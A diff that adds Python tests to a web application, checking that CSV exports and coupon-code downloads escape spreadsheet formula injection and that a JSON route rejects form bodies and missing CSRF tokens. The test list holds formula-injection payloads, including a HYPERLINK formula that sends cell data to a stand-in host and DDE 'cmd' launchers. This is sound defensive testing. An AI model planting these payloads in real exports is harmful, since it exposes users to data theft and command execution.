@@ -12,6 +12,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import re
 import socket
@@ -19,6 +21,7 @@ import subprocess
 import sys
 import time
 from collections.abc import Callable, Iterator
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -31,6 +34,8 @@ from growthwheel.accounts import service
 from growthwheel.accounts.models import AuditEntry
 from growthwheel.api.app import create_app
 from growthwheel.config import Settings
+from growthwheel.kit import export
+from growthwheel.promotions import coupons
 from growthwheel.store.db import session_scope
 
 
@@ -164,3 +169,76 @@ def test_served_app_ignores_forged_forwarded_for(store_cfg: Settings, tmp_path: 
     assert codes[:-1] == [303] * service.IP_FAILURE_LIMIT  # wrong password: back to the login page
     assert codes[-1] == 429  # one address, however many it claims to be
     assert set(_failed_login_ips(store_cfg)) == {"127.0.0.1"}
+
+
+# --------------------------------------------------------------------------------------------
+# 9. Formula injection: one escaping writer for every export
+# --------------------------------------------------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x!A0",
+           "@SUM(1+1)*cmd|x!A0", "\tTAB", "\uff1dSUM(1)"]
+
+
+def test_export_cells_defuse_formulas_and_keep_numbers_and_phones() -> None:
+    for payload in HOSTILE:
+        written = export.cell(payload)
+        assert written == "'" + payload
+        assert export.is_defused(written)
+    for harmless in ("-12.50", "+86 138-****-5678", "13800138000", "C0000031", "", "a=b"):
+        assert export.cell(harmless) == harmless
+    assert [export.cell(v) for v in (None, True, 3, 2.5, float("nan"))] == ["", "true", "3", "2.5", ""]
+    text = "".join(export.csv_chunks(["a", "b"], [[p, 1] for p in HOSTILE], chunk=2))
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == ["a", "b"]
+    assert [r[0] for r in rows[1:]] == ["'" + p for p in HOSTILE]
+
+
+def test_console_coupon_codes_csv_defuses_customer_ids_and_issue_keys(
+    app_client: TestClient, store_cfg: Settings, make_user: Callable[..., Any], log_in: Callable[..., Any]
+) -> None:
+    start = datetime.now(UTC) - timedelta(days=1)
+    with session_scope(store_cfg) as session:
+        batch = coupons.create_batch(session, name="hostile", valid_from=start,
+                                     valid_until=start + timedelta(days=30),
+                                     definition={"reward": {"type": "order_amount_off", "amount": 1000}})
+        coupons.issue(session, batch, ['=HYPERLINK("http://e.example","x")', "plain-1"],
+                      issue_key="@SUM(1+1)")
+        batch_id = batch.id
+    operator = make_user("operator")
+    log_in(app_client, operator.email, operator.password)
+    response = app_client.get(f"/coupons/{batch_id}/codes.csv")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert len(rows) == 2
+    for row in rows:
+        for value in row.values():
+            assert export.is_defused(value), value
+    assert {r["issue_key"] for r in rows} == {"'@SUM(1+1)"}
+    assert any(r["customer_id"].lower().startswith("'=hyperlink(") for r in rows)
+
+
+# --------------------------------------------------------------------------------------------
+# 10. A JSON-reading console route given a form body
+# --------------------------------------------------------------------------------------------
+
+
+def test_segment_preview_with_a_form_body_is_a_clear_refusal(
+    app_client: TestClient, make_user: Callable[..., Any], log_in: Callable[..., Any]
+) -> None:
+    analyst = make_user("analyst")
+    log_in(app_client, analyst.email, analyst.password)
+    token = _token(app_client.get("/imports").text)
+    definition = '{"all": [{"attribute": "city", "op": "eq", "value": "x"}]}'
+    with_token = app_client.post("/segments/preview", data={"csrf_token": token, "definition": definition})
+    assert with_token.status_code == 422
+    assert with_token.json()["ok"] is False
+    without = app_client.post("/segments/preview", data={"definition": definition})
+    assert without.status_code == 403
+    assert without.json()["code"] == "csrf_failed"
+    huge = app_client.post("/segments/preview", data={"csrf_token": token, "definition": "x" * 300_000})
+    assert huge.status_code == 422
+    # The JSON the builder sends still works.
+    ok = app_client.post("/segments/preview", json={"definition": {"all": []}},
+                         headers={"X-CSRF-Token": token})
+    assert ok.status_code == 200, ok.text
+    assert (ok.json()["ok"], ok.json()["count"], ok.json()["masked"]) == (True, 0, True)
